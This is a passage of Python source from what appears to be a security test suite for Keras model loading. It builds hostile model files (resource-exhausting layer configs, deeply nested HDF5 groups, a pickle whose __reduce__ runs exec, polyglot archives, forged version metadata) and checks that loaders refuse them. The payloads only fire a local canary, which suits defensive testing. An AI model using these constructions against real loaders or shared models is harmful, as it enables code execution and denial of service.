    """Three thousand calls in an order that takes the loaders the square of their number."""
    parts = bench.parts(form)
    head = layer(parts.config, "head")
    template = json.dumps(layer(parts.config, "victim"))
    chain = []
    for index in range(3000):
        item = json.loads(template.replace('"victim"', f'"v{index}"'))
        item["inbound_nodes"] = _renamed(item["inbound_nodes"], "x", f"v{index - 1}" if index else "x")
        chain.append(item)
    head["inbound_nodes"] = _renamed(head["inbound_nodes"], "victim", "v2999")
    layers_of(parts.config)[1:] = [head, *reversed(chain)]
    return parts


@attack("resources", refusal="one by one|unroll=True")
def loop_of_a_million_steps(bench, form, path):
    """A recurrent layer that is unrolled over ten million steps."""
    parts = become(bench.parts(form), "SimpleRNN", {"units": 4, "unroll": True, "return_sequences": True})
    config = layer(parts.config, "x")["config"]
    for key in ("batch_shape", "batch_input_shape"):
        if key in config:
            config[key] = [None, 10**7, 4]
    return parts


AMOUNTS = {
    "IntegerLookup": {"vocabulary": [1, 2], "num_oov_indices": 10**8, "output_mode": "int"},
    "StringLookup": {"vocabulary": ["a"], "num_oov_indices": 10**8, "output_mode": "int"},
    "TextVectorization": {
        "vocabulary": ["a"],
        "ngrams": 10**9,
        "output_mode": "multi_hot",
        "standardize": None,
        "split": None,
    },
    "MelSpectrogram": {"num_mel_bins": 10**6, "fft_length": 10**6},
    "STFTSpectrogram": {"fft_length": 10**5, "frame_length": 10**5},
    "RandAugment": {"num_ops": 10**9},
    "AugMix": {"num_chains": 10**9, "chain_depth": 10**9},
    "Discretization": {"num_bins": 10**10},
    "RepeatVector": {"n": 10**12},
    "Dense": {"units": 10**12},
    "Embedding": {"input_dim": 10**12, "output_dim": 10**6},
    "LocallyConnected1D": {"filters": 10**4, "kernel_size": [3], "implementation": 2},
}


def amount(name: str) -> None:
    def build(bench: Bench, form: str, path: Path) -> Parts:
        return become(bench.parts(form), name, AMOUNTS[name])

    build.__name__ = f"amount_of_{name}"
    build.__doc__ = f"{name} with {', '.join(f'{k}={v}' for k, v in AMOUNTS[name].items() if isinstance(v, int))}."
    forms = KERAS_2 if name.startswith("Locally") else FORMS
    attack("resources", refusal="|".join((name, "absurd", "at most", "cannot rebuild")), forms=forms)(build)


for kind_of_layer in AMOUNTS:
    amount(kind_of_layer)


@attack("resources", refusal="none of the dtypes|dtype|cannot rebuild")
def numbers_of_a_huge_dtype(bench, form, path):
    """One number of a dtype that takes two gigabytes."""
    parts = bench.parts(form)
    for name, dtype in (("victim", "V2000000000"), ("head", "U500000000")):
        value = {"class_name": "__numpy__", "config": {"value": [0.0], "dtype": dtype}}
        config = {"value": value}
        layer(parts.config, name)["config"]["bias_initializer"] = instance("keras.initializers", "Constant", config)
    return parts


@attack("resources", refusal="absurd|cannot rebuild|whole number|at most")
def batch_of_any_size(bench, form, path):
    """An input whose batch is fixed at 10^12."""
    parts = bench.parts(form)
    config = layer(parts.config, "x")["config"]
    for key in ("batch_shape", "batch_input_shape"):
        if key in config:
            config[key] = [10**12, 4]
    return parts


@attack("resources", refusal="go on without end|HDF5|damaged")
def groups_nested_deep(bench, form, path):
    """Groups in groups, two thousand deep, and a circle of hard links."""
    parts = bench.parts(form)

    def change(file: Any) -> None:
        place = file.create_group("deep")
        place["circle"] = file["/"]
        for _ in range(2000):
            place = place.create_group("g")

    parts.edit(change)
    return parts


# --- what is no model -------------------------------------------------------------------------------------------------


@attack("code", refusal="not a Keras model", forms=("3.keras", "2.h5"))
def bare_config(bench, form, path):
    """A config as JSON, with a Lambda in it, under a name of a model file."""
    path.write_text(json.dumps(become(bench.parts(form), "Lambda", as_lambda(form)).config))
    return path


@attack("code", refusal="not a Keras model|no such file|rename", forms=("3.keras",))
def pickle_file(bench, form, path):
    """A pickle under a name of a model file."""

    class Stolen:
        def __reduce__(self):
            return exec, (f"open({str(canaries.FIRED)!r}, 'a').write({MARK!r})",)

    path.write_bytes(pickle.dumps(Stolen()))
    return path


@attack("code", refusal="rename|not a Keras model|damaged|archive", forms=("3.keras", "2.h5"))
def two_formats_at_once(bench, form, path):
    """An archive with an HDF5 file before it, or one in an HDF5 file's user block: two readers, two models."""
    bad = become(bench.parts("2.h5"), "Lambda", as_lambda("2.h5")).write(path.with_name("bad.h5")).read_bytes()
    good = bench.parts("3.keras").write(path.with_name("good.keras")).read_bytes()
    path.write_bytes(bad + good if form == "3.keras" else good.ljust(2**16, b"\0") + bad)
    return path


@attack("code", refusal="is a folder", forms=("3.keras",))
def checkpoint_folder(bench, form, path):
    """A folder that looks like an Orbax checkpoint or a SavedModel, which Keras would load by itself."""
    folder = path.with_name("folder.keras")
    folder.mkdir(exist_ok=True)
    (folder / "model_config.json").write_text(json.dumps(become(bench.parts(form), "Lambda", as_lambda(form)).config))
    (folder / "saved_model.pb").write_bytes(b"\x08\x01")
    return folder


@attack("code", refusal="says|version|cannot rebuild|Lambda", forms=KERAS_2)
def version_that_is_not_its_own(bench, form, path):
    """A file of Keras 2 that says Keras 3 wrote it, so that the other loader reads it."""
    parts = bench.parts(form)
    if parts.is_archive:
        parts.members = [(name, data) for name, data in parts.members if name != "metadata.json"]
        parts.members.append(("metadata.json", b'{"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}'))
    else:
        parts.edit(lambda file: file.attrs.__setitem__("keras_version", "3.8.0"))
    return parts


@attack("code", refusal="says|version|cannot rebuild|Lambda", forms=KERAS_3)
def version_of_keras_2_for_keras_3(bench, form, path):
    """A file of Keras 3 that says Keras 2 wrote it."""
    parts = bench.parts(form)
    if parts.is_archive:
        parts.members = [(name, data) for name, data in parts.members if name != "metadata.json"]
        parts.members.append(("metadata.json", b'{"keras_version": "2.15.0", "date_saved": "2026-01-01@00:00:00"}'))
    else:
        parts.edit(lambda file: file.attrs.__setitem__("keras_version", "2.15.0"))
    return parts
